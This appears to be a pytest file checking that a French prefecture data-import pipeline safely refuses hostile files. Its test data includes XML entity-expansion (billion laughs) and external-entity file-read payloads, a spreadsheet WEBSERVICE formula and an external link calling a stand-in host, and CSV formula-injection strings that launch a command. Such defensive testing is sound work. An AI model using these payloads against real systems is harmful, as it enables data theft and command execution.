"""What a hostile file can do: be refused, or have its lines refused; never run, nor hang."""

import csv
import io
import zipfile
from datetime import date
from xml.sax.saxutils import escape

import pytest

from etl.domain.datasets import Dataset
from etl.exports.csv import FORMULA_STARTS, to_csv
from etl.pipeline import Status, ingest_paths
from etl.store.facts import load_facts
from etl.store.quarantine import load_rejections
from tests.pipeline.prefecture import CALLS, LETTERS, calls, letter, local

AT = local("2025-06-16T08:00")
ROWS = calls(date(2025, 3, 4), "aalaa")
MARKS = (";", ",", "\t", "|")
CALENDAR = "BEGIN:VCALENDAR\nVERSION:2.0\nBEGIN:VEVENT\nUID:1\nDTSTART;VALUE=DATE:20250509\n"
COMPLAINTS = ("N° réclamation", "Reçue le", "Répondue le", "Thème", "Site", "Canal", "Service")
COMPLAINT = ("R-1", "03/03/2025 10:00", "", "Attente", "Cahors", "Courriel", "Titres")
CONTENT_TYPES = (
    '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
    '<Default Extension="xml" ContentType="application/xml"/><Default Extension="rels" '
    'ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
    '<Override PartName="/xl/workbook.xml" ContentType="application/vnd.openxmlformats-'
    'officedocument.spreadsheetml.sheet.main+xml"/></Types>'
)
OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
SHEETS = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
PACKAGE = "http://schemas.openxmlformats.org/package/2006/relationships"
LAUGHS = "<!DOCTYPE x [<!ENTITY a 'ha'>" + "".join(
    f"<!ENTITY {name} '{f'&{before};' * 10}'>"
    for before, name in zip("abcdefghi", "bcdefghij", strict=True)
)


def sent(prefecture, name, content: bytes):
    """Import one file; whatever becomes of it, its records are all accounted for."""
    path = prefecture.folder / name
    path.write_bytes(content)
    (report,) = ingest_paths(prefecture.warehouse, [path], AT)
    if report.saved:
        parts = report.saved
        whole = parts.new + parts.superseded + parts.known + parts.rejected
        assert whole == report.records
    else:
        assert report.status is not Status.IMPORTED
    return report


def facts(prefecture, dataset=Dataset.CALLS):
    with prefecture.warehouse.store.reading() as connection:
        return load_facts(connection, dataset)


def rejections(prefecture):
    with prefecture.warehouse.store.reading() as connection:
        return load_rejections(connection)


def text_of(*rows, end="\n"):
    return end.join([CALLS, *rows]) + end


def cell(value: str) -> str:
    """Return the XML of a cell; a value in XML is taken as it is."""
    is_written = value.startswith(("<", "&"))
    inner = value if is_written else escape(value)
    return value if value.startswith("<c") else f'<c t="inlineStr"><is><t>{inner}</t></is></c>'


def workbook(prefecture, row, doctype="", links=""):
    """Write a workbook of one complaint by hand: no library would write a hostile one."""
    rows = "".join(f"<row>{''.join(map(cell, each))}</row>" for each in (COMPLAINTS, row))
    path = prefecture.folder / "reclamations_ecrites.xlsx"
    with zipfile.ZipFile(path, "w") as file:
        file.writestr("[Content_Types].xml", CONTENT_TYPES)
        file.writestr(
            "_rels/.rels",
            f'<Relationships xmlns="{PACKAGE}"><Relationship Id="r1" '
            f'Type="{OFFICE}/officeDocument" Target="xl/workbook.xml"/></Relationships>',
        )
        file.writestr(
            "xl/workbook.xml",
            f'<workbook xmlns="{SHEETS}" xmlns:r="{OFFICE}"><sheets>'
            '<sheet name="A" sheetId="1" r:id="r1"/></sheets></workbook>',
        )
        file.writestr(
            "xl/_rels/workbook.xml.rels",
            f'<Relationships xmlns="{PACKAGE}"><Relationship Id="r1" '
            f'Type="{OFFICE}/worksheet" Target="worksheets/sheet1.xml"/>{links}'
            "</Relationships>",
        )
        file.writestr(
            "xl/worksheets/sheet1.xml",
            f'<?xml version="1.0"?>{doctype}<worksheet xmlns="{SHEETS}"><sheetData>{rows}'
            "</sheetData></worksheet>",
        )
    return path.read_bytes()


def complaint(reason: str):
    return tuple(reason if each == "Attente" else each for each in COMPLAINT)


def test_null_bytes_deep_in_a_file_stop_no_other_line(prefecture):
    rows = [letter(f"L-{place}", "04/03/2025") for place in range(60)]
    rows[50] = rows[50].replace("Carte", "Ca\0rte")
    rows[51] = rows[51].replace("04/03", "04\0/03")
    content = "\n".join([LETTERS, *rows, "\0\0\0"]).encode()
    report = sent(prefecture, "courrier.csv", content)
    assert report.saved.new == 59
    assert 52 + 1 in rejections(prefecture)["line"].tolist()


def test_null_bytes_at_the_beginning_are_those_of_no_text(prefecture):
    content = text_of(ROWS[0].replace("Cahors;", "Ca\0hors;", 1)).encode()
    report = sent(prefecture, "appels.csv", content)
    assert report.status is Status.REFUSED and "format non reconnu" in report.message


@pytest.mark.parametrize("mark", MARKS, ids=repr)
def test_a_line_of_ten_million_columns_is_one_broken_line(prefecture, mark):
    rows = [*ROWS[:2], mark * 10_000_000, *ROWS[2:]]
    report = sent(prefecture, "appels.csv", text_of(*rows).encode())
    assert (report.records, report.saved.rejected) == (6, 1)
    refused = rejections(prefecture)
    assert refused[["line", "code"]].to_numpy().tolist() == [[4, "broken_line"]]
    assert len(facts(prefecture)) == 5


def test_lines_that_never_end_do_not_fill_the_memory(prefecture):
    report = sent(prefecture, "appels.csv", text_of(*ROWS).encode() + b"x" * 40_000_000)
    assert (report.saved.new, report.saved.rejected) == (5, 1)


def test_headers_of_sixty_thousand_empty_columns_are_those_that_have_a_name(prefecture):
    text = text_of(*ROWS).replace(CALLS, CALLS + ";" * 60_000)
    assert sent(prefecture, "appels.csv", text.encode()).saved.new == 5


def test_a_table_of_thirty_thousand_named_columns_is_no_table(prefecture):
    text = text_of(*ROWS).replace(CALLS, CALLS + ";x" * 30_000)
    report = sent(prefecture, "appels.csv", text.encode())
    assert report.status is Status.REFUSED and "format non reconnu" in report.message


def test_a_calendar_with_an_enormous_line_is_refused_with_its_number(prefecture):
    text = f"{CALENDAR}SUMMARY:{',' * 10_000_000}\nEND:VEVENT\nEND:VCALENDAR\n"
    report = sent(prefecture, "fermetures.ics", text.encode())
    assert report.status is Status.REFUSED
    assert "La ligne 6 est démesurée" in report.message


def test_a_subject_of_ten_million_encoded_words_is_read_without_decoding_it(prefecture):
    subject = "=?utf-8?q?=41?= " * 600_000
    message = (
        "From: a@example.org\nTo: pref@lot.gouv.fr\nDate: Tue, 4 Mar 2025 10:00:00 +0100\n"
        f"Message-ID: <1@example.org>\nSubject: {subject}\n\nBonjour.\n"
    )
    assert sent(prefecture, "1.eml", message.encode()).saved.new == 1


def test_mixed_line_ends_cut_the_same_lines(prefecture):
    ends = ["\r\n", "\n", "\r", "\r\n", "\r", "\n"]
    text = "".join(row + end for row, end in zip([CALLS, *ROWS], ends, strict=True))
    assert sent(prefecture, "appels.csv", text.encode()).saved.new == 5


@pytest.mark.parametrize("encoding", ["utf-16-le", "utf-16-be"])
def test_utf_16_without_mark_is_read(prefecture, encoding):
    assert sent(prefecture, "appels.csv", text_of(*ROWS).encode(encoding)).saved.new == 5


def test_a_workbook_written_by_hand_is_read(prefecture):
    sent(prefecture, "a.xlsx", workbook(prefecture, COMPLAINT))
    assert facts(prefecture, Dataset.MAILS)["reason"].tolist() == ["Attente"]


def test_entities_that_multiply_are_not_expanded(prefecture):
    content = workbook(prefecture, complaint("&j;"), f"{LAUGHS}]>")
    report = sent(prefecture, "a.xlsx", content)
    kept = facts(prefecture, Dataset.MAILS)
    assert report.status is Status.REFUSED or len(str(kept["reason"].tolist())) < 100


def test_an_external_entity_reads_no_file(prefecture):
    secret = prefecture.folder.parent / "secret.txt"
    secret.write_text("MOT-DE-PASSE")
    doctype = f'<!DOCTYPE x [<!ENTITY vol SYSTEM "{secret.as_uri()}">]>'
    content = workbook(prefecture, complaint("&vol;"), doctype)
    report = sent(prefecture, "a.xlsx", content)
    kept = facts(prefecture, Dataset.MAILS), rejections(prefecture), report.message
    assert "MOT-DE-PASSE" not in "".join(map(str, kept))


def test_a_formula_gives_the_value_that_the_workbook_holds_and_no_link_is_followed(prefecture):
    formula = '<c t="str"><f>WEBSERVICE("http://192.0.2.1/vol")</f><v>Attente longue</v></c>'
    link = (
        f'<Relationship Id="r2" Type="{OFFICE}/externalLink" '
        'Target="http://192.0.2.1/autre.xlsx" TargetMode="External"/>'
    )
    report = sent(prefecture, "a.xlsx", workbook(prefecture, complaint(formula), links=link))
    assert report.saved.new == 1
    assert facts(prefecture, Dataset.MAILS)["reason"].tolist() == ["Attente longue"]


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t=", "\r="], ids=repr)
def test_what_a_spreadsheet_would_run_leaves_harmless(prefecture, start):
    danger = f"{start}cmd|' /C calc'!A0"
    kept = letter("L-1", "04/03/2025").replace("Carte grise", f'"{danger}"')
    refused = letter("L-2", f'"{danger}"')
    text = "\n".join([LETTERS, kept, refused]) + "\n"
    report = sent(prefecture, "courrier.csv", text.encode())
    assert (report.saved.new, report.saved.rejected) == (1, 1)
    for frame in (facts(prefecture, Dataset.MAILS), rejections(prefecture)):
        texts = frame.select_dtypes(["str", "object", "category"])
        written = to_csv(texts).decode("utf-8-sig")
        assert "cmd|" in written
        cells = [
            each for row in csv.reader(io.StringIO(written), delimiter=";") for each in row
        ]
        assert not [each for each in cells if each.startswith(FORMULA_STARTS)]
